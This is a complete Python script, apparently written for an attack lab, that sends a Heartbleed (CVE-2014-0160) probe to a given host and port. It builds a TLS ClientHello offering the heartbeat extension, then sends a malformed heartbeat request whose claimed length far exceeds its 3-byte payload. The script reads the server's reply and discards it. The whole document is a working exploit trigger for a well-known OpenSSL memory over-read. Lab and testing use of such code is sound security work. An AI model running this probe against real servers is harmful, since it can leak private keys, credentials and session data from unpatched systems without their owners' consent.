#!/usr/bin/env python3
"""Heartbleed-style probe for the Osprey attack lab (python3 stdlib only).

  tls_probe.py HOST PORT

Sends a TLS 1.2 ClientHello that offers the heartbeat extension (RFC 6520),
then, without finishing the handshake, a heartbeat request record of 3 bytes
whose payload_length claims 16,384 bytes (CVE-2014-0160). Reads whatever the
server answers for up to 2 s, then closes.
"""

import os
import socket
import struct
import sys


def client_hello():
    suites = [0xC02F, 0xC030, 0xC013, 0xC014, 0x009C, 0x002F, 0x0035, 0x000A]
    exts = b""
    exts += struct.pack("!HHB", 0x000F, 1, 1)  # heartbeat: peer_allowed_to_send
    exts += struct.pack("!HHH", 0x000A, 4, 2) + struct.pack("!H", 0x0017)  # groups
    exts += struct.pack("!HHB", 0x000B, 2, 1) + b"\x00"  # ec_point_formats
    exts += struct.pack("!HHH", 0x000D, 4, 2) + struct.pack("!H", 0x0401)  # sig algs
    body = struct.pack("!H", 0x0303) + os.urandom(32) + b"\x00"
    body += struct.pack("!H", 2 * len(suites)) + b"".join(struct.pack("!H", s) for s in suites)
    body += b"\x01\x00" + struct.pack("!H", len(exts)) + exts
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    s = socket.create_connection((host, port), timeout=2)
    s.sendall(client_hello())
    try:
        s.recv(65536)
    except OSError:
        pass
    # heartbeat record: type 24, TLS 1.2, length 3: request(1), payload_length 0x4000
    s.sendall(b"\x18\x03\x03\x00\x03\x01\x40\x00")
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass
    s.close()


if __name__ == "__main__":
    main()
